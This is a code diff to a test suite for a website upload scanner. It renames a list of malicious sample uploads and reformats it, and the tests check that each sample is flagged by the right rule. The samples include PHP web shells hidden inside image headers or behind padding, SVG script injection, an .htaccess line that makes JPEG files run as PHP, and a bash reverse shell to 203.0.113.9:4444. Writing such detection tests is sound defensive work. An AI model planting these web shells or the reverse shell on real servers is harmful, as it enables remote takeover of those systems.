@@ -22,40 +22,39 @@ const clean: Readonly<Record<string, string>> = {
   "2026/01/k.jpg": "\xff\xd8\xff\xe1\0\x20Exif\0\0A slide that says <?php echo 'Hello'; ?>\0",
   "spool/h.bin": "\0\x01\x02\x03",
 };
-const planted: readonly (readonly [name: string, text: string, rule: string, severity: number])[] =
+const malicious: readonly (readonly [
+  name: string,
+  text: string,
+  rule: string,
+  severity: number,
+])[] = [
+  ["2026/01/1.php", "<?php echo 1;", "is-script", 100],
+  ["2026/01/2.jpg", "<?php system($_GET['c']);", "is-script", 100],
+  ["2026/01/3.png", `${png}${"x".repeat(300_000)}<?php eval($_POST[1]); ?>`, "hidden-script", 100],
+  ["2026/01/4.svg", "<svg><script>alert(1)</script></svg>", "svg-script", 100],
+  ["2026/01/5.html", "<!doctype html><p>Fog", "is-page", 75],
+  ["2026/01/6.jpg", "<html><script src=//x.example></script>", "is-page", 75],
+  ["2026/01/7.php.jpg", "\xff\xd8\xff\xe0", "twofold-name", 75],
+  ["2026/01/8.gif", "%PDF-1.4", "mismatch", 50],
+  ["2026/01/.htaccess", "AddType application/x-httpd-php .jpg", "server-settings", 100],
+  ["2026/01/9.jpg", "\x7fELF\x02", "is-program", 100],
+  ["2026/01/10.txt", "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "is-script", 100],
+  ["2026/01/11.js", "console.log(1)", "runnable-name", 100],
+  ["2026/01/13.gif", "GIF89a<?=system($_GET[1])?>", "hidden-script", 100],
+  ["2026/01/14.gif", "GIF89a<? @eval ($_POST[1]) ?>", "hidden-script", 100],
+  ["2026/01/15.gif", "GIF89a<?=`$_GET[1]`?>", "hidden-script", 100],
+  ["2026/01/16.pht", "x", "runnable-name", 100],
+  ["2026/01/17.jpg", "\xff\xd8\xff\xe1 Exif <?php system('id'); ?>", "hidden-script", 100],
+  ["2026/01/18.xml", '<?xml version="1.0"?><?xml-stylesheet href="a.xsl"?><a/>', "is-page", 75],
+  ["2026/01/19.xml", '<a xmlns:h="http://www.w3.org/1999/xhtml"><h:b/></a>', "is-page", 75],
+  ["2026/01/17.ashx", "x", "runnable-name", 100],
   [
-    ["2026/01/1.php", "<?php echo 1;", "is-script", 100],
-    ["2026/01/2.jpg", "<?php system($_GET['c']);", "is-script", 100],
-    [
-      "2026/01/3.png",
-      `${png}${"x".repeat(300_000)}<?php eval($_POST[1]); ?>`,
-      "hidden-script",
-      100,
-    ],
-    ["2026/01/4.svg", "<svg><script>alert(1)</script></svg>", "svg-script", 100],
-    ["2026/01/5.html", "<!doctype html><p>Fog", "is-page", 75],
-    ["2026/01/6.jpg", "<html><script src=//x.example></script>", "is-page", 75],
-    ["2026/01/7.php.jpg", "\xff\xd8\xff\xe0", "twofold-name", 75],
-    ["2026/01/8.gif", "%PDF-1.4", "mismatch", 50],
-    ["2026/01/.htaccess", "AddType application/x-httpd-php .jpg", "server-settings", 100],
-    ["2026/01/9.jpg", "\x7fELF\x02", "is-program", 100],
-    ["2026/01/10.txt", "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "is-script", 100],
-    ["2026/01/11.js", "console.log(1)", "runnable-name", 100],
-    ["2026/01/13.gif", "GIF89a<?=system($_GET[1])?>", "hidden-script", 100],
-    ["2026/01/14.gif", "GIF89a<? @eval ($_POST[1]) ?>", "hidden-script", 100],
-    ["2026/01/15.gif", "GIF89a<?=`$_GET[1]`?>", "hidden-script", 100],
-    ["2026/01/16.pht", "x", "runnable-name", 100],
-    ["2026/01/17.jpg", "\xff\xd8\xff\xe1 Exif <?php system('id'); ?>", "hidden-script", 100],
-    ["2026/01/18.xml", '<?xml version="1.0"?><?xml-stylesheet href="a.xsl"?><a/>', "is-page", 75],
-    ["2026/01/19.xml", '<a xmlns:h="http://www.w3.org/1999/xhtml"><h:b/></a>', "is-page", 75],
-    ["2026/01/17.ashx", "x", "runnable-name", 100],
-    [
-      "2026/01/12.svg",
-      `<svg>${"<path/>".repeat(50_000)}<script>alert(1)</script></svg>`,
-      "svg-script",
-      100,
-    ],
-  ];
+    "2026/01/12.svg",
+    `<svg>${"<path/>".repeat(50_000)}<script>alert(1)</script></svg>`,
+    "svg-script",
+    100,
+  ],
+];
 async function filled(files: Readonly<Record<string, string>>) {
   const blobs = testBlobs();
   for (const [name, text] of Object.entries(files)) await blobs.put(name, latin(text));
@@ -70,14 +69,14 @@ describe.each(await testStorages())("uploads on %s", (_, storage) => {
   });
 
   test("uploads that do not match are reported by their rule", async () => {
-    const files = Object.fromEntries(planted.map(([name, text]) => [name, text]));
+    const files = Object.fromEntries(malicious.map(([name, text]) => [name, text]));
     await using site = await startSite({
       storage: storage(),
       blobs: await filled({ ...clean, ...files }),
     });
     await site.scan();
     const found = await site.rules();
-    for (const [name, , rule, severity] of planted)
+    for (const [name, , rule, severity] of malicious)
       expect(found, name).toContainEqual([
         `upload ${name}`,
         "file_upload_executable",
